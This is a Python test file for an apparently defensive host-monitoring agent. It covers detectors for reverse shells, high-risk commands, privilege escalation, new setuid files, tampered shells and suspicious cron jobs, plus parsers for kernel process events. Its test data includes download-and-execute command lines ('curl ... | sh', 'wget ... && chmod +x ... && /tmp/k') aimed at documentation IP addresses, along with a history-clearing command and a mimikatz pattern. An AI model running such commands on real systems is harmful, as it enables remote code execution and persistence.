"""Process and file threat detectors (pure logic) and the proc connector / cron parsers."""

from __future__ import annotations

import stat
import struct
from dataclasses import replace
from datetime import UTC, datetime

from hostward.agent.collectors.crontab import parse_crontab, read_cron_entries
from hostward.agent.collectors.proccn import (
    CN_IDX_PROC,
    EV_EXEC,
    EV_EXIT,
    EV_FORK,
    EV_NONE,
    EV_UID,
    PROC_CN_MCAST_LISTEN,
    control_message,
    parse_datagram,
)
from hostward.agent.collectors.procfs import parse_proc_net
from hostward.agent.detectors.base import Observation
from hostward.agent.detectors.crontab import CRON_ENTRIES, CronEntry, SuspiciousCrontabDetector
from hostward.agent.detectors.highrisk import HighRiskCommandDetector
from hostward.agent.detectors.privesc import PrivilegeEscalationDetector
from hostward.agent.detectors.procmodel import PROCESS_EXEC, ParentInfo, ProcessInfo, SocketInfo
from hostward.agent.detectors.revshell import ReverseShellDetector, program_name
from hostward.agent.detectors.setid import SETID_FILES, FilePrivilegeEscalationDetector, SetidEntry
from hostward.agent.detectors.shells import (
    SHELL_SNAPSHOT,
    AbnormalShellDetector,
    ShellCopy,
    ShellSnapshot,
    ShellState,
)
from hostward.wire import PolicyBundle, PolicyState

NOW = datetime(2025, 11, 24, 12, 0, tzinfo=UTC)
USER = ParentInfo(4000, "/usr/bin/bash", "-bash", 1000, 1000)
ROOT = ParentInfo(1, "/usr/lib/systemd/systemd", "/sbin/init", 0, 0)


def proc(
    exe: str,
    *args: str,
    ruid: int = 1000,
    euid: int = 1000,
    parents: tuple[ParentInfo, ...] = (USER,),
    sockets: dict[int, SocketInfo] | None = None,
    event: str = "exec",
    previous_exe: str = "",
) -> ProcessInfo:
    return ProcessInfo(
        pid=5000,
        ppid=parents[0].pid if parents else 0,
        exe=exe,
        cmdline=(exe, *args),
        cwd="/tmp",
        ruid=ruid,
        euid=euid,
        suid=euid,
        rgid=ruid,
        egid=euid,
        start_ticks=123456,
        comm=exe.rsplit("/", 1)[-1][:15],
        event=event,
        parents=parents,
        stdio={},
        sockets=sockets or {},
        previous_exe=previous_exe,
    )


def tcp(remote_ip: str, remote_port: int, state: str = "ESTABLISHED") -> SocketInfo:
    return SocketInfo(99, "tcp", "10.0.0.5", 40000, remote_ip, remote_port, state)


def bundle(key: str, **settings: object) -> PolicyBundle:
    return PolicyBundle(
        version=1,
        group_id=None,
        group_name=None,
        edition="premium",
        protection=True,
        policies={key: PolicyState(enabled=True, settings=dict(settings))},
    )


# ---- reverse shell --------------------------------------------------------------------------------


def test_reverse_shell_on_socket_stdio() -> None:
    d = ReverseShellDetector(standalone=True, auto_kill=True)
    sock = tcp("203.0.113.9", 4444)
    (alarm,) = d.feed(
        Observation(PROCESS_EXEC, proc("/usr/bin/bash", "-i", sockets={0: sock, 1: sock, 2: sock})), NOW
    )
    assert alarm.event_class == "malware_0002" and alarm.severity == "critical"
    assert (
        alarm.evidence["remote_address"] == "203.0.113.9:4444"
        and alarm.evidence["process_path"] == "/usr/bin/bash"
    )
    (kill,) = d.take_kill_requests()
    assert kill.pid == 5000 and kill.start_ticks == 123456 and kill.alarm_key == alarm.key
    # the same process is reported once (rechecks, uid events)
    assert d.feed(Observation(PROCESS_EXEC, proc("/usr/bin/bash", "-i", sockets={0: sock})), NOW) == []


def test_reverse_shell_needs_a_shell_and_a_connected_peer() -> None:
    d = ReverseShellDetector(standalone=True)
    sock = tcp("203.0.113.9", 4444)
    assert d.feed(Observation(PROCESS_EXEC, proc("/usr/sbin/sshd", sockets={0: sock})), NOW) == []
    listening = SocketInfo(98, "tcp", "0.0.0.0", 22, "0.0.0.0", 0, "LISTEN")
    assert d.feed(Observation(PROCESS_EXEC, proc("/usr/bin/python3.11", sockets={0: listening})), NOW) == []
    assert program_name("/usr/bin/python3.11") == "python" and program_name("/usr/bin/perl5.36.0") == "perl"
    (alarm,) = d.feed(
        Observation(PROCESS_EXEC, proc("/usr/bin/python3.11", sockets={1: tcp("127.0.0.1", 9)})), NOW
    )
    assert alarm.evidence["loopback"] is True
    assert d.take_kill_requests() == []  # auto_kill is off unless the policy turns it on


def test_reverse_shell_policy_whitelist_and_loopback() -> None:
    d = ReverseShellDetector()
    d.configure(
        bundle(
            "reverse_shell",
            ignore_loopback=True,
            whitelist=[{"process_path": "^/usr/bin/bash$", "cmdline": "inetd-helper"}],
        )
    )
    loop = tcp("127.0.0.1", 9)
    assert d.feed(Observation(PROCESS_EXEC, proc("/bin/sh", sockets={0: loop})), NOW) == []
    far = tcp("198.51.100.1", 443)
    assert (
        d.feed(Observation(PROCESS_EXEC, proc("/usr/bin/bash", "inetd-helper", sockets={0: far})), NOW) == []
    )
    assert d.health().counters["whitelisted"] == 1
    off = ReverseShellDetector()
    off.configure(None)  # no bundle yet and not standalone: learns nothing, raises nothing
    assert off.feed(Observation(PROCESS_EXEC, proc("/bin/sh", sockets={0: far})), NOW) == []
    assert off.health().status == "disabled"


# ---- high-risk command ------------------------------------------------------------------------------


def test_high_risk_command_and_whitelist() -> None:
    d = HighRiskCommandDetector(standalone=True)
    (alarm,) = d.feed(
        Observation(PROCESS_EXEC, proc("/usr/bin/bash", "-c", "curl -s http://x/i.sh | sh")), NOW
    )
    assert alarm.event_class == "procreport_0001" and alarm.evidence["patterns"] == ["download-to-shell"]
    assert d.feed(Observation(PROCESS_EXEC, proc("/usr/bin/ls", "-la")), NOW) == []
    assert d.feed(Observation(PROCESS_EXEC, proc("/bin/sh", "-c", "history -c", event="snapshot")), NOW) == []
    w = HighRiskCommandDetector()
    w.configure(
        bundle(
            "high_risk_command",
            disabled=["history-clear"],
            patterns=[r"\bmimikatz\b"],
            whitelist=[{"process_path": "^/opt/installer/", "cmdline": r"curl .*get\.example\.org"}],
        )
    )
    assert (
        w.feed(
            Observation(PROCESS_EXEC, proc("/opt/installer/run", "curl https://get.example.org | sh")), NOW
        )
        == []
    )
    assert w.feed(Observation(PROCESS_EXEC, proc("/bin/bash", "-c", "history -c")), NOW) == []
    (custom,) = w.feed(Observation(PROCESS_EXEC, proc("/tmp/x", "mimikatz", "run")), NOW)
    assert custom.evidence["patterns"] == ["custom-0"]


# ---- privilege escalation -----------------------------------------------------------------------------


def test_privilege_escalation_rules() -> None:
    d = PrivilegeEscalationDetector(standalone=True)

    def feed(info: ProcessInfo) -> list[str]:
        return [e.event_class for e in d.feed(Observation(PROCESS_EXEC, info), NOW)]

    assert feed(proc("/tmp/.x/rootme", ruid=1000, euid=0)) == ["procdet_0002"]
    assert feed(replace(proc("/usr/bin/sudo", "ls", ruid=1000, euid=0), pid=5001)) == []
    sudo_parent = ParentInfo(5001, "/usr/bin/sudo", "sudo ls", 1000, 0)
    assert feed(replace(proc("/usr/bin/ls", ruid=0, euid=0, parents=(sudo_parent, USER)), pid=5002)) == []
    assert (
        feed(replace(proc("/usr/bin/bash", ruid=0, euid=0, previous_exe="/usr/bin/pkexec"), pid=5003)) == []
    )
    # a copy of sudo outside the system directories is not sanctioned
    assert feed(replace(proc("/tmp/sudo", ruid=1000, euid=0), pid=5004)) == ["procdet_0002"]
    # setuid(0) by an exploit: real uid 0 too, but the parent is an ordinary user's shell
    assert feed(replace(proc("/usr/bin/bash", ruid=0, euid=0, event="uid"), pid=5005)) == ["procdet_0002"]
    assert feed(replace(proc("/usr/sbin/cron", ruid=0, euid=0, parents=(ROOT,)), pid=5006)) == []
    assert feed(replace(proc("/usr/bin/id", ruid=1000, euid=1000), pid=5007)) == []
    custom = PrivilegeEscalationDetector()
    custom.configure(bundle("process_privilege_escalation", sanctioned=["/opt/tool/bin/helper"]))
    assert custom.feed(Observation(PROCESS_EXEC, proc("/opt/tool/bin/helper", ruid=1000, euid=0)), NOW) == []


# ---- file privilege escalation, abnormal shell, crontab ----------------------------------------------------


def setid(path: str, mode: int, ino: int = 1) -> SetidEntry:
    return SetidEntry(path, stat.S_IFREG | mode, 0, 0, 100, 1, 1, ino)


def test_new_setuid_files_after_the_baseline() -> None:
    d = FilePrivilegeEscalationDetector(standalone=True)
    base = {"/usr/bin/passwd": setid("/usr/bin/passwd", 0o4755)}
    assert d.feed(Observation(SETID_FILES, base), NOW) == []
    later = {
        **base,
        "/tmp/x/true": setid("/tmp/x/true", 0o4755, ino=7),
        "/usr/bin/passwd": setid("/usr/bin/passwd", 0o6755),
    }
    alarms = d.feed(Observation(SETID_FILES, later), NOW)
    assert [(a.evidence["file_path"], a.evidence["change"]) for a in alarms] == [
        ("/tmp/x/true", "new"),
        ("/usr/bin/passwd", "bits_added"),
    ]
    assert alarms[0].event_class == "fileprotect_0001" and alarms[0].evidence["setid"] == "setuid"
    assert d.feed(Observation(SETID_FILES, later), NOW) == []


def test_abnormal_shell_changes() -> None:
    d = AbnormalShellDetector(standalone=True)
    bash = ShellState("/usr/bin/bash", stat.S_IFREG | 0o755, 0, 0, 1, 1, 10, 1000, "ab" * 32)
    assert d.feed(Observation(SHELL_SNAPSHOT, ShellSnapshot({bash.path: bash}, {})), NOW) == []
    changed = replace(bash, mode=stat.S_IFREG | 0o4755, nlink=2)
    copy = ShellCopy("/dev/shm/.b", "copy", bash.path, stat.S_IFREG | 0o755, 1000, 1000)
    alarms = d.feed(Observation(SHELL_SNAPSHOT, ShellSnapshot({bash.path: changed}, {copy.path: copy})), NOW)
    assert sorted(a.evidence["change"] for a in alarms) == ["copy", "hard_link_added", "permissions"]
    assert all(a.event_class == "malware_0001" for a in alarms)


CRONTAB = """SHELL=/bin/sh
# m h dom mon dow user command
17 * * * * root cd / && run-parts --report /etc/cron.hourly
*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh
@reboot root /dev/shm/.k/kswapd0 -c /dev/shm/.k/c.json
0 3 * * * root find /tmp -type f -mtime +7 -delete
"""


def test_crontab_parse_and_suspicious_entries(tmp_path: object) -> None:
    entries = parse_crontab(CRONTAB, "/etc/crontab", user=None)
    assert [(e.user, e.schedule) for e in entries] == [
        ("root", "17 * * * *"),
        ("root", "*/5 * * * *"),
        ("root", "@reboot"),
        ("root", "0 3 * * *"),
    ]
    d = SuspiciousCrontabDetector(standalone=True)
    alarms = d.feed(Observation(CRON_ENTRIES, entries), NOW)
    assert [a.evidence["reasons"] for a in alarms] == [["download_pipe_exec"], ["runs_from_tmp"]]
    assert alarms[0].event_class == "crontab_1001" and alarms[0].evidence["username"] == "root"
    assert d.feed(Observation(CRON_ENTRIES, entries), NOW) == []
    new = CronEntry(
        "/var/spool/cron/crontabs/www-data",
        1,
        "www-data",
        "* * * * *",
        "wget -q http://198.51.100.7/k -O /tmp/k && chmod +x /tmp/k && /tmp/k",
    )
    (alarm,) = d.feed(Observation(CRON_ENTRIES, [*entries, new]), NOW)
    assert "download_then_exec" in alarm.evidence["reasons"]


def test_read_cron_entries_from_a_root(tmp_path: object) -> None:
    from pathlib import Path

    root = Path(str(tmp_path))
    (root / "etc" / "cron.d").mkdir(parents=True)
    (root / "var" / "spool" / "cron" / "crontabs").mkdir(parents=True)
    (root / "etc" / "crontab").write_text(CRONTAB)
    (root / "etc" / "cron.d" / "evil").write_text("* * * * * root /var/tmp/.x/run\n")
    (root / "var" / "spool" / "cron" / "crontabs" / "alice").write_text("0 * * * * /home/alice/backup.sh\n")
    entries = read_cron_entries(str(root))
    assert {(e.source, e.user) for e in entries} >= {
        ("/etc/cron.d/evil", "root"),
        ("/var/spool/cron/crontabs/alice", "alice"),
    }


# ---- proc connector wire format -------------------------------------------------------------------------


def _event(what: int, body: bytes) -> bytes:
    ev = struct.pack("=IIQ", what, 0, 123456789) + body
    cn = struct.pack("=IIIIHH", CN_IDX_PROC, 1, 0, 0, len(ev), 0) + ev
    return struct.pack("=IHHII", 16 + len(cn), 3, 0, 0, 0) + cn


def test_parse_proc_connector_events() -> None:
    assert parse_datagram(_event(EV_FORK, struct.pack("=iiii", 10, 10, 11, 11)))[0][:6] == (
        EV_FORK,
        11,
        11,
        123456789,
        10,
        11,
    )
    (ex,) = parse_datagram(_event(EV_EXEC, struct.pack("=ii", 11, 11)))
    assert (ex.what, ex.tgid) == (EV_EXEC, 11)
    (uid,) = parse_datagram(_event(EV_UID, struct.pack("=iiII", 11, 11, 1000, 0)))
    assert (uid.ruid, uid.euid) == (1000, 0)
    (ext,) = parse_datagram(_event(EV_EXIT, struct.pack("=iiiiii", 11, 11, 256, 17, 10, 10)))
    assert (ext.exit_code, ext.parent_tgid) == (256, 10)
    (ack,) = parse_datagram(_event(EV_NONE, struct.pack("=I", 0)))
    assert ack.what == EV_NONE and ack.err == 0
    two = _event(EV_EXEC, struct.pack("=ii", 1, 1)) + _event(EV_EXEC, struct.pack("=ii", 2, 2))
    assert [e.tgid for e in parse_datagram(two)] == [1, 2]
    assert parse_datagram(_event(EV_EXEC, b"")[:30]) == []  # truncated: skipped, no exception
    msg = control_message(PROC_CN_MCAST_LISTEN)
    assert len(msg) == 40 and struct.unpack_from("=I", msg, 36)[0] == PROC_CN_MCAST_LISTEN


def test_parse_proc_net_tables() -> None:
    text = (
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
        "   0: 0100007F:1F90 0100007F:C350 01 00000000:00000000 00:00000000 00000000"
        "  0 0 4242 1 0 20 4 30 10 -1\n"
    )
    (s,) = parse_proc_net(text, "tcp").values()
    assert (s.local, s.remote, s.state, s.inode) == ("127.0.0.1:8080", "127.0.0.1:50000", "ESTABLISHED", 4242)
    text6 = (
        "  sl  local_address                         remote_address                        st ...\n"
        "   0: 00000000000000000000000001000000:0016 0000000000000000FFFF00000900710C:115C"
        " 01 0 0 0 0 0 77 1\n"
    )
    (s6,) = parse_proc_net(text6, "tcp").values()
    assert s6.local == "[::1]:22" and s6.remote == "12.113.0.9:4444"
